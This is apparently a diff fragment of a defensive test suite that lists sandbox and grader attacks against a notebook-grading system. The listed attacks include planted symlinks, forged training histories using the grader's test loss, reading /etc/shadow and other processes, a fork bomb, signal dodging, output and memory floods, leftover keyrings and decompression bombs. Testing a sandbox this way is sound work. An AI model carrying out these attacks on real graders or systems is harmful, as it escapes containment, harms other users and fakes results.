+        "take and a history whose val_loss is the grader's own test loss",
+        "release",
+        [("apply_config", _FAKE_MODEL), ("end", _FORGED_TRAINING)],
+        order=20,
+    ),
+    Attack(
+        "symlinks_planted",
+        "the kernel's and the probe's export folders replaced by symlinks to a folder outside the sandbox holding a "
+        "planted history; connection-file names linked to the grader's conftest; the kernel killed so the grader writes k1.json",
+        "release",
+        [("apply_config", _SYMLINKS + _SYMLINKS_KERNEL), ("apply_config", _RESTART_KERNEL)],
+        check=_check_planted,
+        order=21,
+    ),
+    Attack(
+        "neighbours",
+        "read /proc of other processes, ptrace, signal, look for other sandboxes' scratch folders, claim uid slots in "
+        "/tmp/tiny-unet-uids, mount, read /etc/shadow, the kit and OUT (kernel and probe)",
+        "release",
+        [("apply_config", _NEIGHBOURS), ("apply_config", "_attempt('neighbours', _neighbours)")],
+        order=22,
+    ),
+    Attack(
+        "fork_bomb",
+        "a self-replicating fork bomb (bounded to 40 s) that must hit the process limit and be killed",
+        "release",
+        [("end", _FORK_BOMB)],
+        order=23,
+    ),
+    Attack(
+        "sigint_ignored",
+        "a cell that ignores SIGINT/SIGTERM and swallows KeyboardInterrupt to dodge the cell time limit",
+        "release",
+        [("hardware", _IGNORE_SIGINT)],
+        order=5,
+    ),
+    Attack(
+        "huge_output",
+        "40 MB of stdout, 40 MB of stderr and 1500 display messages in one cell",
+        "release",
+        [("apply_config", _HUGE_OUTPUT)],
+        check=_check_output_capped,
+        order=25,
+    ),
+    Attack(
+        "huge_message",
+        "one 1 GiB stream message: every byte reaches the grader's memory (decoded, about twice) before the output cap",
+        "release",
+        [("apply_config", _HUGE_MESSAGE)],
+        check=_check_grader_memory,
+        order=30,
+    ),
+    Attack(
+        "display_update_bypass",
+        "400 outputs under one display_id, then one 600 kB update: 240 MB of output past the per-cell cap",
+        "release",
+        [("apply_config", _DISPLAY_UPDATE)],
+        check=_check_output_capped,
+        order=26,
+    ),
+    Attack(
+        "memory_together",
+        "three processes of 2.3 GiB each: every one under RLIMIT_DATA, together over the profile's memory",
+        "release",
+        [("apply_config", _MEMORY)],
+        check=_check_memory,
+        order=24,
+    ),
+    Attack(
+        "keyring_left_behind",
+        "a key in the sandbox uid's user keyring (kernel and probe): it outlives the sandbox, and the next student "
+        "given the same uid can read it",
+        "release",
+        [("apply_config", _KEYRING)],
+        check=_check_keys,
+        order=28,
+    ),
+    Attack(
+        "user_namespaces",
+        "create user, mount and network namespaces inside the sandbox (root inside them: more kernel attack surface)",
+        "release",
+        [("apply_config", _USERNS)],
+        check=_check_userns,
+        order=29,
+    ),
+    Attack(
+        "decompression_bombs",
+        "a trained.keras whose config.json unpacks to 64 MiB and, from the probe, a preprocess.npz whose array "
+        "unpacks to 64 MiB (each a few hundred kB on disk)",
+        "release",
+        [("apply_config", _BOMBS), ("end", _BOMBS_KERNEL)],
+        check=_check_bombs,
+        order=27,
+    ),
+    Attack(
+        "client_crash",
+        "a message the notebook client cannot process, sent from a cell of the solution",
+        "solution",
+        [("preprocess", _CLIENT_CRASH)],
+        check=_check_client_crash,
+        order=32,
+    ),
+    Attack(
+        "unwritable_text",
+        "exceptions whose messages hold a lone surrogate and terminal escapes, in the kernel and in the probe",
+        "release",
+        [("preprocess", _UNWRITABLE_TEXT)],
+        check=_check_clean_text,
+        order=31,
+    ),
 ]
